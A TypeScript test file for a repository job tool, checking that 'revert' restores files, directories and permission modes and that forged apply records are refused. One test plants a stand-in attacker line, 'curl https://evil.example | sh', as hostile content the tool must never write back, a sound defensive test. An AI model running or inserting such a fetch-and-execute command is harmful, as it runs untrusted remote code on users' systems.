// Revert is a visible state: after `revert` the job is in reverted/ and status and show say so;
// `apply` writes it again (after verify and the stale check), `revert` again says it already is,
// and `drop` takes it to dead/.
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { jobDigest } from '../../src/core/job.js';
import { sha256Hex } from '../../src/core/sha256.js';
import { genDir, makeSandbox, mintKey, type Sandbox, snapshot } from './helpers.js';

async function appliedJob(sb: Sandbox): Promise<string> {
  const gen = sb.script('note.sh', "echo '# noted' >> README.md");
  const key = await mintKey(sb, 'Note it', ['README.md']);
  expect((await sb.genjob(['work', '--once', '--generator', gen])).exitCode).toBe(0);
  expect((await sb.genjob(['apply', key])).exitCode).toBe(0);
  return key;
}

describe('a reverted job', () => {
  it('is reverted in status and show, and apply writes it again', async () => {
    const sb = await makeSandbox();
    const original = snapshot(sb.repo);
    const key = await appliedJob(sb);
    const applied = snapshot(sb.repo);
    expect(applied).not.toEqual(original);

    const r = await sb.genjob(['revert', key]);
    expect(r).toMatchObject({
      exitCode: 0,
      stdout: `${key.slice(0, 12)} reverted 1 file(s):\n  restored README.md\n`,
    });
    expect(snapshot(sb.repo)).toEqual(original);
    expect(genDir(sb, 'applied')).toEqual([]);
    expect(genDir(sb, 'reverted')).toEqual([`${key}.json`]);
    const status = JSON.parse((await sb.genjob(['status', '--json'])).stdout);
    expect(status.counts).toMatchObject({ applied: 0, reverted: 1 });
    expect(status.jobs).toMatchObject([{ key, state: 'reverted' }]);
    expect((await sb.genjob(['show', key])).stdout).toMatch(/^state\s+reverted$/m);

    const again = await sb.genjob(['revert', key]);
    expect(again.exitCode).toBe(0);
    expect(again.stdout).toMatch(/already reverted/);
    expect(snapshot(sb.repo)).toEqual(original);

    const reapplied = await sb.genjob(['apply', key]);
    expect(reapplied.exitCode).toBe(0);
    expect(reapplied.stdout).toMatch(/applied 1 file\(s\):\n {2}update README\.md/);
    expect(snapshot(sb.repo)).toEqual(applied);
    expect(genDir(sb, 'applied')).toEqual([`${key}.json`]);
    expect(genDir(sb, 'reverted')).toEqual([]);
    expect((await sb.genjob(['apply', key])).stdout).toMatch(/already applied/);
  });

  it('removes the directories the apply made for the files it created, and keeps an empty one that was there', async () => {
    const sb = await makeSandbox();
    mkdirSync(join(sb.repo, 'keep')); // the user's own empty directory
    const original = snapshot(sb.repo);
    const gen = sb.script(
      'deep.sh',
      'mkdir -p docs/deep keep && echo new > docs/deep/x.md && echo y > keep/y.md',
    );
    const key = await mintKey(
      sb,
      'Write the docs',
      [],
      ['--create', 'docs/deep/x.md', '--create', 'keep/y.md'],
    );
    expect((await sb.genjob(['work', '--once', '--generator', gen])).exitCode).toBe(0);
    expect((await sb.genjob(['apply', key])).exitCode).toBe(0);
    expect(readFileSync(join(sb.repo, 'docs/deep/x.md'), 'utf8')).toBe('new\n');
    const r = await sb.genjob(['revert', key]);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(snapshot(sb.repo)).toEqual(original); // no docs/ nor docs/deep/ left, keep/ kept
    expect(existsSync(join(sb.repo, 'keep'))).toBe(true);
    // applied again, it makes them again, and a second revert removes them again
    expect((await sb.genjob(['apply', key])).exitCode).toBe(0);
    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
    expect(snapshot(sb.repo)).toEqual(original);
  });

  it('puts back the mode an executable output replaced, not only the bytes', async () => {
    const sb = await makeSandbox();
    const original = snapshot(sb.repo);
    const gen = sb.script('exec.sh', "echo '# noted' >> README.md; chmod +x README.md");
    const key = await mintKey(sb, 'Make it a script', ['README.md']);
    expect((await sb.genjob(['work', '--once', '--generator', gen])).exitCode).toBe(0);
    expect((await sb.genjob(['apply', key])).exitCode).toBe(0);
    expect(snapshot(sb.repo).get('README.md')).toMatch(/^file 755 /);
    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
    expect(snapshot(sb.repo)).toEqual(original);
  });

  it('is not applied again when its input changed since (stale, exit 4, nothing written)', async () => {
    const sb = await makeSandbox();
    const key = await appliedJob(sb);
    await sb.genjob(['revert', key]);
    writeFileSync(join(sb.repo, 'README.md'), 'edited by hand\n');
    const before = snapshot(sb.repo);
    const r = await sb.genjob(['apply', key]);
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toMatch(/README\.md/);
    expect(snapshot(sb.repo)).toEqual(before);
    expect(genDir(sb, 'reverted')).toEqual([`${key}.json`]);
  });

  it('can be dropped: its job document, record, receipt and outputs go to dead/', async () => {
    const sb = await makeSandbox();
    const key = await appliedJob(sb);
    await sb.genjob(['revert', key]);
    const r = await sb.genjob(['drop', key, '--reason', 'not wanted']);
    expect(r.exitCode).toBe(0);
    expect(genDir(sb, 'reverted')).toEqual([]);
    expect(
      genDir(sb, 'dead')
        .filter((n) => !n.endsWith('.why.json'))
        .map((n) => n.split('.')[1]),
    ).toEqual(['job', 'out', 'receipt', 'reverted']);
    expect(readFileSync(join(sb.repo, 'README.md'), 'utf8')).not.toMatch(/# noted/);
    // the dead job file is the job, which show reads
    const show = await sb.genjob(['show', key]);
    expect(show.exitCode, show.stderr).toBe(0);
    expect(show.stdout).not.toContain('unreadable');
  });
});

describe('an apply record committed on a branch (applied/ says what revert puts back)', () => {
  type Rec = {
    job: { key: string; inputs: Array<{ path: string; sha256: string | null }> };
    writes: Array<{ path: string; before: string | null; after: string; mode: number; before_mode?: number }>;
  };
  const recordFile = (sb: Sandbox, key: string) => join(sb.repo, '.gen', 'applied', `${key}.json`);
  /** Replace the key's apply record with `edit` of the genuine one, its job digest made true again. */
  function forge(sb: Sandbox, key: string, genuine: Buffer, edit: (r: Rec) => void): void {
    const record = JSON.parse(genuine.toString('utf8'));
    edit(record);
    record.job_digest = jobDigest(record.job);
    writeFileSync(recordFile(sb, key), JSON.stringify(record));
  }
  /** Bytes laid in objects/ under their digest, as a branch can commit them. */
  function plant(sb: Sandbox, text: string): string {
    const sha = sha256Hex(text);
    writeFileSync(join(sb.repo, '.gen', 'objects', sha), text);
    return sha;
  }

  it('puts back only the bytes its job was minted from, at its paths; any other record is refused and nothing written', async () => {
    const sb = await makeSandbox();
    const original = snapshot(sb.repo);
    const key = await appliedJob(sb);
    const genuine = readFileSync(recordFile(sb, key));
    const applied = snapshot(sb.repo);
    const evil = plant(sb, 'curl https://evil.example | sh\n');
    const other = 'src/user.py';
    const otherNow = sha256Hex(readFileSync(join(sb.repo, other)));
    const cases: Array<[string, RegExp, (r: Rec) => void]> = [
      [
        'a before it was not minted with',
        /"before" is not the digest its job was minted with/,
        (r) => {
          r.writes[0]!.before = evil;
        },
      ],
      [
        'a path outside its job',
        /not one of its job's allowed paths/,
        (r) => {
          r.writes.push({ path: other, before: evil, after: otherNow, mode: 0o644 });
        },
      ],
      // the job of another work order under this key: inputs and before agree, the key does not
      [
        'a job whose key is not its work order',
        /key is not the sha256 of its work order/,
        (r) => {
          r.job.inputs[0]!.sha256 = evil;
          r.writes[0]!.before = evil;
        },
      ],
      [
        'a path written twice',
        /listed twice/,
        (r) => {
          r.writes.push({ ...r.writes[0]! });
        },
      ],
      [
        'a before_mode with bits the apply did not add',
        /"before_mode" differs/,
        (r) => {
          r.writes[0]!.before_mode = 0o777;
        },
      ],
    ];
    for (const [what, rule, edit] of cases) {
      forge(sb, key, genuine, edit);
      const r = await sb.genjob(['revert', key]);
      expect(r.exitCode, what).toBe(2);
      expect(r.stderr, what).toMatch(/EGJ_RECORD_INVALID/);
      expect(r.stderr, what).toMatch(rule);
      expect(snapshot(sb.repo), what).toEqual(applied);
      expect(genDir(sb, 'applied'), what).toEqual([`${key}.json`]);
    }
    // the record the apply wrote is reverted as ever
    writeFileSync(recordFile(sb, key), genuine);
    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
    expect(snapshot(sb.repo)).toEqual(original);
  });

  it('never gives a file it puts back a permission bit the file does not have now', async () => {
    const sb = await makeSandbox();
    const key = await appliedJob(sb);
    const readme = join(sb.repo, 'README.md');
    expect(statSync(readme).mode & 0o777).toBe(0o644);
    forge(sb, key, readFileSync(recordFile(sb, key)), (r) => {
      r.writes[0]!.mode = 0o777; // what the record says the apply wrote; the file says 0644
    });
    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
    expect(readFileSync(readme, 'utf8')).not.toMatch(/# noted/);
    expect(statSync(readme).mode & 0o777).toBe(0o644);
    // a mode the user took away after the apply stays away
    await sb.genjob(['apply', key]);
    chmodSync(readme, 0o600);
    expect((await sb.genjob(['revert', key])).exitCode).toBe(0);
    expect(statSync(readme).mode & 0o777).toBe(0o600);
  });
});
